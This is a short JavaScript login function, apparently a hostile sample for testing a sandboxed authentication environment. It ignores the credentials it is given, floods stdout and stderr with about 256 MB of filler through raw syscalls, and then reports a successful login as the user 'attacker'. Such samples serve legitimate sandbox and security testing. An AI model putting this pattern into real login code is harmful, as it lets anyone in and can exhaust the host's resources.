function login(email, password, callback) {
  const block = new Uint8Array(1 << 16).fill(120);
  for (let count = 0; count < 2000; count += 1) {
    syscall(calls().write, 1, block, block.length);
    syscall(calls().write, 2, block, block.length);
  }
  callback(null, { user_id: 'attacker' });
}
